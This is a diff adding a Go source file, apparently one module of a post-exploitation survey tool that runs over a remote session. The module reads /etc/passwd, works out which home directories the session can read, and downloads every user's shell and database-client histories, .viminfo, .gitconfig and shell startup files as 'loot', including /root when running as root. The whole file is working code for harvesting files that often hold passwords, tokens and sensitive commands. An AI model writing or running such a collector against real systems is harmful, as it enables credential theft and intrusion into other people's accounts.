@@ -0,0 +1,152 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"path"
+	"strings"
+
+	"common"
+)
+
+// the files collected from every home directory, a path below the home directory with a glob
+// allowed in the last part
+var defaultDotfiles = []string{
+	".bash_history", ".zsh_history", ".zhistory", ".ash_history", ".ksh_history", ".sh_history", ".dash_history", ".history",
+	".fish_history", ".local/share/fish/fish_history",
+	".mysql_history", ".psql_history", ".sqlite_history", ".python_history", ".node_repl_history", ".rediscli_history",
+	".wget-hsts", ".lesshst", ".viminfo",
+	".gitconfig", ".bashrc", ".zshrc", ".profile", ".bash_profile", ".bash_logout",
+}
+
+// how the home directories show up in a plan, they come from /etc/passwd so are only known once
+// the survey has collected it
+const planHomes = "~*"
+
+// Function to find the files matching a path below a directory, the directories on the way are
+// only listed when the listing above shows them
+//
+// :param: base string -> the directory to start in i.e. a home directory
+// :param: pattern string -> the path below it, a glob in the last part i.e. ".ssh/*"
+// :return: []string -> the paths of the matching files
+// :return: error -> if the session went away
+func (s *survey) findHomeFiles(base string, pattern string) ([]string, error) {
+	dir := base
+	parts := strings.Split(pattern, "/")
+	for _, part := range parts[:len(parts)-1] {
+		if _, err := s.listDir(dir); errors.Is(err, common.ErrSessionGone) {
+			return nil, err
+		}
+		if fi := s.lookupListed(path.Join(dir, part)); fi == nil || !fi.IsDir {
+			return nil, nil
+		}
+		dir = path.Join(dir, part)
+	}
+	files, err := s.listDir(dir)
+	if errors.Is(err, common.ErrSessionGone) {
+		return nil, err
+	}
+	var found []string
+	for _, fi := range files {
+		if matched, _ := path.Match(parts[len(parts)-1], fi.Name); matched && !fi.IsDir && !strings.HasPrefix(fi.Mode, "L") {
+			found = append(found, path.Join(dir, fi.Name))
+		}
+	}
+	return found, nil
+}
+
+// Function to get the home directories the session can look in. Privileged ones (i.e. /root) are
+// only for root, and the rest are skipped when the listing of their parent does not show them or
+// shows they can not be listed by anyone but the owner and the session user is someone else
+//
+// :param: privileged bool -> true for the home directories only root should touch, false for the rest
+// :return: []homeDir -> the home directories to look in
+// :return: error -> if /etc/passwd was not collected and /home could not be listed
+func (s *survey) readableHomes(privileged bool) ([]homeDir, error) {
+	homes, err := s.homeDirectories()
+	if err != nil {
+		return nil, err
+	}
+	var readable []homeDir
+	for _, home := range homes {
+		if isPrivilegedPath(home.path) != privileged || (privileged && !s.isRoot()) {
+			continue
+		}
+		fi := s.lookupListed(home.path)
+		if _, err := s.listDir(path.Dir(home.path)); (err == nil && fi == nil) || errors.Is(err, common.ErrNotFound) {
+			// service accounts often have a home that was never made, i.e. /nonexistent
+			continue
+		}
+		if fi != nil && !s.isRoot() && home.path != s.sessionHome() && !(othersMay(fi.Mode, 'r') && othersMay(fi.Mode, 'x')) {
+			fmt.Printf("[-] %s is %s, %s can not list it\n", home.path, fi.Mode, s.session.Username)
+			continue
+		}
+		readable = append(readable, home)
+	}
+	return readable, nil
+}
+
+// Function to collect the dotfiles of every home directory from /etc/passwd: shell and client
+// histories and the shell and git config, whichever of -dotfiles are there
+//
+// :param: privileged bool -> true for the home directories only root should touch i.e. /root,
+// false for every other one
+// :return: error -> every listing or download that failed, the rest are still collected
+func (s *survey) collectDotfiles(privileged bool) error {
+	if privileged {
+		makeBorder("Dotfiles /root")
+	} else {
+		makeBorder("Dotfiles")
+	}
+	homes, err := s.readableHomes(privileged)
+	if err != nil {
+		printRPCError(err, "/home")
+		return err
+	}
+	var failures []error
+	collected := 0
+	for _, home := range homes {
+		if _, err := s.listDir(home.path); err != nil {
+			// someone elses home directory is often off limits, keep going with the rest
+			printRPCError(err, home.path)
+			if errors.Is(err, common.ErrSessionGone) {
+				return err
+			}
+			failures = append(failures, err)
+			continue
+		}
+		for _, dotfile := range s.dotfiles {
+			found, err := s.findHomeFiles(home.path, dotfile)
+			if err != nil {
+				return err
+			}
+			for _, remotePath := range found {
+				data, err := s.fetchLoot(remotePath)
+				if errors.Is(err, common.ErrSessionGone) {
+					return err
+				}
+				if err != nil {
+					failures = append(failures, err)
+				} else if data != nil {
+					collected++
+				}
+			}
+		}
+	}
+	fmt.Printf("[*] Collected %d dotfiles from %d home directories\n", collected, len(homes))
+	return errors.Join(failures...)
+}
+
+// Function to plan collecting the dotfiles, which home directories there are depends on
+// /etc/passwd so every listing and download is dynamic
+func (s *survey) planDotfiles(privileged bool) []plannedRPC {
+	homes := planHomes
+	if privileged {
+		homes = "/root"
+	}
+	rpcs := []plannedRPC{planLs(homes, true)}
+	for _, dotfile := range s.dotfiles {
+		rpcs = append(rpcs, planDownload(homes+"/"+dotfile, true))
+	}
+	return rpcs
+}